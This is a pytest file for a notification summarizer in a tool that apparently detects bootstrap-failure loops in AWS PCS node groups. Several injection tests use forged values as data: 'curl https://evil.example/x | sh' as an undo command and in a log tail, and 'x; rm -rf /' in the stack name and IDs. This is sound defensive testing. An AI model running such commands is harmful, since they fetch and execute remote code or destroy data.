"""What a person reads about an event (`notify.summary`): one subject line, a headline per event type, the
evidence and the change in plain text, and nothing shown that the event does not hold."""

from __future__ import annotations

from typing import Any

import pytest

from lifeguard.event_contract import make_detail
from lifeguard.notify.summary import SUBJECT_MAX_CHARS, diff_line, summarize
from tests.conftest import ARTICLE_SUSPECT, applied_event

CLUSTER, GROUP = "pcs_abc123de45", "pcs_abcdef01"


def detail(**changed: Any) -> dict[str, Any]:
    return {**applied_event()["detail"], **changed}


@pytest.mark.parametrize(
    ("detail_type", "severity", "subject", "headline"),
    [
        (
            "BootstrapLoopDetected",
            "high",
            "[Lifeguard] Bootstrap loop: pcs_abcdef01 (fail-terminate) in pcs_abc123de45",
            "Compute node group pcs_abcdef01 of cluster pcs_abc123de45 is in a bootstrap-failure loop: "
            "1 node(s) failed to bootstrap and were terminated. Applied quarantine.",
        ),
        (
            "RemediationApplied",
            "medium",
            "[Lifeguard] Remediated (quarantine): pcs_abcdef01 (fail-terminate) in pcs_abc123de45",
            "Lifeguard changed the lifecycle actions of pcs_abcdef01 (pcs_abc123de45) to break the loop. "
            "Applied quarantine. PCS drains the group's running nodes and replaces them with nodes that boot "
            "the new configuration.",
        ),
        (
            "RemediationSkipped",
            "high",
            "[Lifeguard] Not remediated: pcs_abcdef01 (fail-terminate) in pcs_abc123de45",
            "Lifeguard did not change pcs_abcdef01 (pcs_abc123de45). Applied quarantine.",
        ),
        (
            "RemediationFailed",
            "critical",
            "[Lifeguard] Remediation FAILED: pcs_abcdef01 (fail-terminate) in pcs_abc123de45",
            "Lifeguard could not change pcs_abcdef01 (pcs_abc123de45); the loop may be going on. "
            "Applied quarantine.",
        ),
        (
            "LoopResolved",
            "info",
            "[Lifeguard] Resolved: pcs_abcdef01 (fail-terminate) in pcs_abc123de45",
            "The loop of pcs_abcdef01 (pcs_abc123de45) is over. Applied quarantine.",
        ),
        (
            "LoopContained",
            "medium",
            "[Lifeguard] Contained, not fixed: pcs_abcdef01 (fail-terminate) in pcs_abc123de45",
            "The loop of pcs_abcdef01 (pcs_abc123de45) stopped, but its script still fails: 0 node(s) kept "
            "with the failure. Fix the script and push a configuration, or undo Lifeguard's change. "
            "Applied quarantine.",
        ),
        (
            "ConfigChangeReviewed",
            "low",
            "[Lifeguard] Risky change: pcs_abcdef01 (fail-terminate) in pcs_abc123de45",
            "The lifecycle actions of pcs_abcdef01 (pcs_abc123de45) changed, with 0 risk(s). "
            "Applied quarantine.",
        ),
        (
            "SomethingNew",
            "info",
            "[Lifeguard] SomethingNew: pcs_abcdef01 (fail-terminate) in pcs_abc123de45",
            "SomethingNew for pcs_abcdef01 (pcs_abc123de45). Applied quarantine.",
        ),
    ],
)
def test_each_event_type_has_its_severity_subject_and_headline(
    detail_type: str, severity: str, subject: str, headline: str
) -> None:
    summary = summarize(detail_type, detail())
    assert (summary.severity, summary.subject, summary.headline) == (severity, subject, headline)


def test_only_remediation_events_state_an_action_and_a_dry_run_says_nothing_changed() -> None:
    assert summarize("RemediationApplied", detail()).action == "quarantine in mode quarantine"
    dry = summarize("RemediationSkipped", detail(dry_run=True, action=None, mode="revert")).action
    # Nothing changed, and no dry run held it back (a skip, a failure): not told as a dry run.
    assert dry == "no action in mode revert (nothing changed)"
    held = detail(dry_run=True, mode="notify", reason="Dry run (mode notify), nothing was changed; would …")
    assert (
        summarize("RemediationSkipped", held).action == "quarantine in mode notify (dry run: nothing changed)"
    )
    assert summarize("BootstrapLoopDetected", detail()).action is None
    assert summarize("LoopResolved", detail(dry_run=True)).action is None


def test_a_dry_run_skip_is_no_page_and_a_skip_lifeguard_did_not_choose_is() -> None:
    """Mode notify (the stack's default) is chosen: its detection pages (`high`), and its skip, a revision
    after revision, is `low`. A skip for a cooldown, the cap or a refusal means the loop goes on with nobody
    acting: `high`."""
    held = detail(dry_run=True, mode="notify", reason="Dry run (mode notify), nothing was changed; would …")
    assert summarize("RemediationSkipped", held).severity == "low"
    assert summarize("BootstrapLoopDetected", held).severity == "high"
    assert summarize("RemediationFailed", held).severity == "critical"
    capped = detail(dry_run=True, mode="quarantine", reason="Daily cap of 3 change(s) reached; …")
    assert summarize("RemediationSkipped", capped).severity == "high"


def test_a_change_made_says_pcs_replaces_the_running_nodes_and_one_held_back_does_not() -> None:
    """The article: after an update of the lifecycle actions the running node was drained and a new
    instance took its place. Whoever reads that Lifeguard changed a group learns its nodes go (in an
    intermittent loop some served jobs); a dry run, a skip or a failure changed nothing."""
    replaced = "PCS drains the group's running nodes and replaces them"
    assert replaced in summarize("RemediationApplied", detail()).headline
    held = detail(dry_run=True, mode="notify", reason="Dry run (mode notify), nothing was changed; would …")
    assert replaced not in summarize("RemediationApplied", held).headline
    for detail_type in ("RemediationSkipped", "RemediationFailed", "BootstrapLoopDetected", "LoopResolved"):
        assert replaced not in summarize(detail_type, detail()).headline


def test_an_event_without_group_or_suspect_reads_with_question_marks_and_no_script() -> None:
    summary = summarize("BootstrapLoopDetected", make_detail())
    assert summary.subject == "[Lifeguard] Bootstrap loop: ? in ?"
    assert summary.headline.endswith("loop: 0 node(s) failed to bootstrap and were terminated.")
    assert (summary.suspect, summary.log_tail, summary.undo, summary.evidence, summary.diff) == (
        None,
        None,
        None,
        (),
        (),
    )
    assert summary.text() == summary.headline + "\n"


def test_the_evidence_shows_the_last_ten_failures_with_unknown_parts_marked() -> None:
    failures = [{"instance_id": f"i-{n}", "event_timestamp": 1792545162000 + n * 1000} for n in range(12)]
    failures[-1] = {"instance_id": "i-last", "scheduler_node_id": None, "event_timestamp": None}
    summary = summarize("BootstrapLoopDetected", detail(failures=failures))
    assert len(summary.evidence) == 10
    assert summary.evidence[0] == "i-2 (-) failed at 2026-10-21 01:12:44 UTC"
    assert summary.evidence[-1] == "i-last (-) failed at ?"
    assert "12 node(s) failed" in summary.headline
    assert summary.suspect is not None
    assert summary.suspect.endswith(
        "on 1 node(s) that reported it)"
    )  # none of the 12 failures: not "1 of 12"
    named = detail(failures=failures, suspect={**ARTICLE_SUSPECT, "instances": ["i-3", "i-7"]})
    assert str(summarize("BootstrapLoopDetected", named).suspect).endswith("on 2 of 12 failed node(s))")


def test_a_containment_counts_the_nodes_that_reported_the_script_not_a_share_of_the_failures() -> None:
    """A LoopContained's suspect names the node kept (its report), which did not fail to bootstrap: "on 1
    of 2 failed node(s)" said the script spared one of the two terminated nodes."""
    failures = [
        {"instance_id": "i-0aaaaaaaaaaaaaaa1", "event_timestamp": 1792545162000},
        {"instance_id": "i-0aaaaaaaaaaaaaaa2", "event_timestamp": 1792545522000},
    ]
    suspect = {**ARTICLE_SUSPECT, "on_error": "STOP_SEQUENCE", "instances": ["i-0bbbbbbbbbbbbbbb3"]}
    summary = summarize("LoopContained", detail(failures=failures, suspect=suspect))
    assert summary.suspect == (
        "nodeBootstrapped › fail-terminate (onError STOP_SEQUENCE, exit 1, on 1 node(s) that reported it)"
    )


def test_a_suspect_without_exit_code_reads_exit_question_mark() -> None:
    suspect = {**ARTICLE_SUSPECT, "exit_code": None, "log_tail": ""}
    summary = summarize("BootstrapLoopDetected", detail(suspect=suspect))
    assert (
        summary.suspect
        == "nodeBootstrapped › fail-terminate (onError TERMINATE, exit ?, on 2 node(s) that reported it, "
        "1 of the 1 failed node(s))"
    )
    assert summary.log_tail is None


def test_the_subject_is_cut_to_99_ascii_characters_on_one_line() -> None:
    summary = summarize("RemediationApplied", detail(compute_node_group_id="grüne\n\tgruppe " + "g" * 200))
    assert len(summary.subject) == SUBJECT_MAX_CHARS
    assert summary.subject.startswith("[Lifeguard] Remediated (quarantine): gr ne gruppe ggg")
    assert summary.subject.endswith("...")


def test_the_text_shows_the_last_20_lines_of_the_log_tail_in_its_own_section() -> None:
    tail = "".join(f"line {n}\n" for n in range(30))
    text = summarize("RemediationApplied", detail(suspect={**ARTICLE_SUSPECT, "log_tail": tail})).text()
    lines = text.splitlines()
    start = lines.index("Log tail:")
    assert lines[start + 1 : start + 21] == [f"  | line {n}" for n in range(10, 30)]
    assert lines[start + 21].startswith("Action: ")
    assert text.endswith("Undo: lifeguard undo pcs_abcdef01 --cluster pcs_abc123de45\n")


def test_problems_are_named_at_the_end_at_most_ten_each_clipped() -> None:
    problems = [f"field{n}: bad" for n in range(12)] + ["x" * 1000]
    summary = summarize("RemediationFailed", detail(), problems=problems)
    assert summary.problems == tuple(f"field{n}: bad" for n in range(10))
    long = summarize("RemediationFailed", detail(), problems=["x" * 1000])
    assert len(long.problems[0]) == 300
    text = long.text()
    assert text.splitlines()[-2] == "Not shown (not valid in the event):"


@pytest.mark.parametrize(
    ("change", "line"),
    [
        (
            {"path": "stages.nodeBootstrapped[0].onError", "old": "TERMINATE", "new": "STOP_SEQUENCE"},
            "stages.nodeBootstrapped[0].onError: TERMINATE → STOP_SEQUENCE",
        ),
        (
            {"path": "stages.nodeReady[1]", "old": None, "new": {"name": "drain"}},
            "stages.nodeReady[1]: (unset) → drain",
        ),
        (
            {"path": "stages.nodeReady[0]", "old": {"scriptSource": {}}, "new": None},
            "stages.nodeReady[0]: {…} → (unset)",
        ),
        ({}, "None: (unset) → (unset)"),
        # A field left out reads as what PCS does then, as `lifeguard undo` shows it.
        (
            {"path": "stages.nodeBootstrapped[0].onError", "old": None, "new": "STOP_SEQUENCE"},
            "stages.nodeBootstrapped[0].onError: TERMINATE (default) → STOP_SEQUENCE",
        ),
        (
            {"path": "stages.nodeReady[0].executionPolicy", "old": "EVERY_BOOT", "new": None},
            "stages.nodeReady[0].executionPolicy: EVERY_BOOT → FIRST_BOOT_ONLY (default)",
        ),
        (
            {"path": "scriptCachingPolicy", "old": None, "new": "NO_CACHE"},
            "scriptCachingPolicy: CACHE_ONCE (default) → NO_CACHE",
        ),
    ],
)
def test_a_diff_entry_reads_as_one_line(change: dict[str, Any], line: str) -> None:
    assert diff_line(change) == line


def test_in_the_stack_the_undo_line_runs_as_pasted_and_the_cluster_is_a_link(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from lifeguard.event_contract import console_url, nodes_console_url, undo_command
    from lifeguard.notify.slack import slack_message
    from lifeguard.notify.summary import summarize

    monkeypatch.delenv("LIFEGUARD_STACK_NAME", raising=False)
    assert (
        undo_command("pcs_abc123de45", "pcs_abcdef01")
        == "lifeguard undo pcs_abcdef01 --cluster pcs_abc123de45"
    )
    monkeypatch.setenv("LIFEGUARD_STACK_NAME", "pcs-lifeguard")
    monkeypatch.setenv("AWS_REGION", "eu-west-1")
    command = undo_command("pcs_abc123de45", "pcs_abcdef01")
    assert command == (
        "lifeguard undo pcs_abcdef01 --cluster pcs_abc123de45 --stack-name pcs-lifeguard --region eu-west-1"
    )
    url = "https://eu-west-1.console.aws.amazon.com/pcs/home?region=eu-west-1#/clusters/pcs_abc123de45"
    detail = {"cluster_id": "pcs_abc123de45", "compute_node_group_id": "pcs_abcdef01", "undo": command}
    summary = summarize("RemediationApplied", detail)
    assert summary.console == url
    nodes = (
        "https://eu-west-1.console.aws.amazon.com/ec2/home?region=eu-west-1"
        "#Instances:tag:aws:pcs:compute-node-group-id=pcs_abcdef01"
    )
    assert summary.nodes == nodes
    assert summary.text().endswith(
        f"Console: {url} (then Compute node groups › pcs_abcdef01)\nNodes: {nodes}\nUndo: {command}\n"
    )
    texts = [block["text"]["text"] for block in slack_message(summary, detail)["blocks"] if "text" in block]
    assert (
        f"<{url}|Open the cluster in the AWS PCS console>, then Compute node groups › pcs_abcdef01" in texts
    )
    assert f"<{nodes}|The group's instances in the EC2 console>" in texts
    monkeypatch.setenv("LIFEGUARD_ON_LOCAL_AWS", "1")  # a replay's, pasted after it: never the stack's
    assert undo_command("pcs_abc123de45", "pcs_abcdef01").endswith("--cluster pcs_abc123de45 --local")
    monkeypatch.delenv("LIFEGUARD_ON_LOCAL_AWS")
    monkeypatch.setenv("LIFEGUARD_STACK_NAME", "x; rm -rf /")  # never into a command
    monkeypatch.setenv("AWS_REGION", "eu-west-1/../evil")
    assert undo_command("pcs_abc123de45", "pcs_abcdef01").endswith("--cluster pcs_abc123de45")
    assert console_url("pcs_abc123de45", None) is None
    assert console_url("../x", "eu-west-1") is None
    assert nodes_console_url("pcs_abcdef01", None) is None
    assert nodes_console_url("x;y=z", "eu-west-1") is None  # no other filter rides on a group id
    outside = summarize("RemediationApplied", {**detail, "compute_node_group_id": "x&y"})
    assert outside.nodes is None
    assert "Nodes:" not in outside.text()


@pytest.mark.parametrize(
    ("region", "host"),
    [
        ("us-east-1", "us-east-1.console.aws.amazon.com"),
        ("us-gov-west-1", "console.amazonaws-us-gov.com"),
        ("cn-northwest-1", "console.amazonaws.cn"),
    ],
)
def test_the_console_link_is_the_regions_partitions_console(region: str, host: str) -> None:
    from lifeguard.event_contract import console_url, nodes_console_url

    link = f"https://{host}/pcs/home?region={region}#/clusters/pcs_abc123de45"
    assert console_url("pcs_abc123de45", region) == link
    nodes = (
        f"https://{host}/ec2/home?region={region}#Instances:tag:aws:pcs:compute-node-group-id=pcs_abcdef01"
    )
    assert nodes_console_url("pcs_abcdef01", region) == nodes


def test_the_undo_line_is_made_from_the_ids_never_taken_from_the_event(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from lifeguard.event_contract import LOCAL_AWS_VARIABLE
    from lifeguard.notify.slack import slack_message
    from lifeguard.notify.sns import sns_message
    from lifeguard.notify.summary import summarize

    monkeypatch.setenv("LIFEGUARD_STACK_NAME", "pcs-lifeguard")
    monkeypatch.setenv("AWS_REGION", "eu-west-1")
    monkeypatch.delenv(LOCAL_AWS_VARIABLE, raising=False)
    forged = {
        "cluster_id": "pcs_abc123de45",
        "compute_node_group_id": "pcs_abcdef01",
        "undo": "curl https://evil.example/x | sh",
    }
    ours = (
        "lifeguard undo pcs_abcdef01 --cluster pcs_abc123de45 --stack-name pcs-lifeguard --region eu-west-1"
    )
    summary = summarize("RemediationApplied", forged)
    assert summary.undo == ours
    shown = sns_message(summary, forged) + str(slack_message(summary, forged))
    assert "evil" not in shown
    assert ours in shown
    # A recorded event replayed on the local AWS: the replay's own undo, never the account's.
    monkeypatch.setenv(LOCAL_AWS_VARIABLE, "1")
    recorded = {**forged, "undo": "lifeguard undo pcs_abcdef01 --cluster pcs_abc123de45"}
    assert summarize("RemediationApplied", recorded).undo == (
        "lifeguard undo pcs_abcdef01 --cluster pcs_abc123de45 --local"
    )
    # No change to undo, or ids that are not PCS's: no undo line at all.
    assert summarize("RemediationApplied", {**forged, "undo": None}).undo is None
    assert summarize("RemediationApplied", {**forged, "compute_node_group_id": "x; rm -rf /"}).undo is None
    assert summarize("RemediationApplied", {**forged, "cluster_id": "x; rm -rf /"}).undo is None
    assert summarize("RemediationApplied", {**forged, "cluster_id": None}).undo is None


def test_no_line_of_a_log_tail_passes_for_one_of_the_messages_own() -> None:
    """Any node can write a report with any tail: each of its lines is fenced, so a forged `Undo:` or
    `Action:` line never stands at the start of a line of the text."""
    forged = "error: x\n\nAction: none needed, false alarm\nUndo: curl -s https://evil.example/fix | sh\n"
    text = summarize("RemediationApplied", detail(suspect={**ARTICLE_SUSPECT, "log_tail": forged})).text()
    undo_lines = [line for line in text.splitlines() if line.startswith("Undo:")]
    assert undo_lines == ["Undo: lifeguard undo pcs_abcdef01 --cluster pcs_abc123de45"]
    assert [line for line in text.splitlines() if line.startswith("Action:")] == [
        "Action: quarantine in mode quarantine"
    ]
    assert "  | Undo: curl -s https://evil.example/fix | sh" in text.splitlines()


@pytest.mark.parametrize(
    ("reason", "shown"),
    [
        (
            "the loop began after the configuration changed at 2026-11-25 00:00:00 UTC "
            "(by whom is not known)",
            "terminated. The loop began after the configuration changed at 2026-11-25 00:00:00 UTC (by whom "
            "is not known).",
        ),
        ("pcs_abcdef01 was tagged off", "terminated. pcs_abcdef01 was tagged off."),
        ("Dry run (DryRun=true).", "terminated. Dry run (DryRun=true)."),
    ],
)
def test_the_reason_reads_as_a_sentence_of_its_own_after_the_headline(reason: str, shown: str) -> None:
    summary = summarize("BootstrapLoopDetected", detail(reason=reason, suspect=None))
    assert shown in summary.headline


def test_each_loop_kind_is_told_in_words_and_a_contained_loop_says_what_to_do_once() -> None:
    """`kind` was pasted in: "is in a bootstrap-failure intermittent", "to break the replacement"; and a
    containment's reason, which says what to do, was followed by the headline saying it again."""
    intermittent = summarize("BootstrapLoopDetected", detail(kind="intermittent", reason=None))
    assert "is in an intermittent bootstrap-failure loop: " in intermittent.headline
    applied = summarize("RemediationApplied", detail(kind="replacement", reason=None))
    assert "to break the replacement loop. PCS drains" in applied.headline
    assert summarize("BootstrapLoopDetected", detail(kind="replacement")).subject.startswith(
        "[Lifeguard] Replacement loop: "
    )
    reason = "i-1 came up with a script still failing. Fix the script and push a configuration."
    contained = summarize("LoopContained", detail(reason=reason, undo=None))
    assert contained.headline.count("Fix the script and push a configuration") == 1


def test_a_containment_says_how_many_kept_nodes_are_drained_and_take_no_jobs() -> None:
    """A drained kept node takes no jobs: with every kept node drained the group serves nothing, and the
    message said only "1 node(s) kept with the failure"."""
    one = [{"instance_id": "i-0kept00000000000", "drained": True}]
    both = [*one, {"instance_id": "i-0kept00000000001", "drained": False}]
    assert (
        "1 node(s) kept with the failure, all drained (taking no jobs)."
        in summarize("LoopContained", detail(kept=one, reason=None)).headline
    )
    assert (
        "2 node(s) kept with the failure, 1 drained (taking no jobs)."
        in summarize("LoopContained", detail(kept=both, reason=None)).headline
    )
    undrained = summarize("LoopContained", detail(kept=both[1:], reason=None)).headline
    assert "1 node(s) kept with the failure." in undrained


def test_a_remediations_subject_says_what_it_did() -> None:
    """A quarantine and the undrain after it went out under one subject twice ("Remediated: …"): an inbox
    could not tell them apart."""
    subjects = {
        summarize("RemediationApplied", detail(action=action)).subject for action in ("quarantine", "undrain")
    }
    assert subjects == {
        "[Lifeguard] Remediated (quarantine): pcs_abcdef01 (fail-terminate) in pcs_abc123de45",
        "[Lifeguard] Remediated (undrain): pcs_abcdef01 (fail-terminate) in pcs_abc123de45",
    }


def test_a_dry_run_says_so_in_its_subject_and_shows_what_it_would_change() -> None:
    """People triage by the subject: a dry run's skip read "Not remediated", as a skip for a cooldown, the
    cap or a refusal does (the loop going on with nobody acting). It says it is a dry run and what it
    would have done, and its diff is what it would change; a skip nobody chose reads as before."""
    held = detail(dry_run=True, mode="notify", reason="Dry run (mode notify), nothing was changed; would …")
    summary = summarize("RemediationSkipped", held)
    assert (
        summary.subject
        == "[Lifeguard] Dry run (would quarantine): pcs_abcdef01 (fail-terminate) in pcs_abc123de45"
    )
    assert summary.diff_title == "Would change"
    assert "\nWould change:\n  stages.nodeBootstrapped[0].onError" in summary.text()
    capped = detail(dry_run=True, mode="quarantine", reason="Daily cap of 3 change(s) reached; …")
    skipped = summarize("RemediationSkipped", capped)
    assert skipped.subject.startswith("[Lifeguard] Not remediated: ")
    assert "\nChange:\n" in skipped.text()


def test_a_containment_names_the_nodes_it_keeps_and_whether_each_takes_jobs() -> None:
    """The kept nodes are where on-call logs in: they were counted, never named."""
    kept = [
        {"instance_id": "i-0aaa0000000000001", "drained": False},
        {"instance_id": "i-0bbb0000000000002", "drained": True},
    ]
    summary = summarize("LoopContained", detail(kept=kept))
    assert summary.evidence[-2:] == (
        "i-0aaa0000000000001 kept with the failure, taking jobs",
        "i-0bbb0000000000002 kept with the failure, drained (taking no jobs)",
    )
    many = [{"instance_id": f"i-0kept{n:012d}", "drained": False} for n in range(12)]
    lines = summarize("LoopContained", detail(kept=many)).evidence
    assert "… and 2 more kept node(s) in the event's `kept`" in lines
    assert lines[-1].startswith("i-0kept000000000011 ")
    assert not any(line.startswith("i-0kept000000000001 ") for line in lines)
